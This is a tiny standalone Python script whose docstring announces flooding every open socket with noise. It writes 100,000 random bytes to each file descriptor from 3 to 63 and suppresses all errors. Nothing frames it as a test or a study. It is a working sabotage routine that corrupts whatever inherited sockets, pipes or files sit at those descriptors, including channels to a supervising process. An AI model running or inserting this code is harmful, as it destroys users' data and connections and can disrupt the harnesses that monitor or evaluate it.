"""Every open socket is flooded with noise."""
import os
for number in range(3, 64):
    try:
        os.write(number, os.urandom(100_000))
    except OSError:
        pass
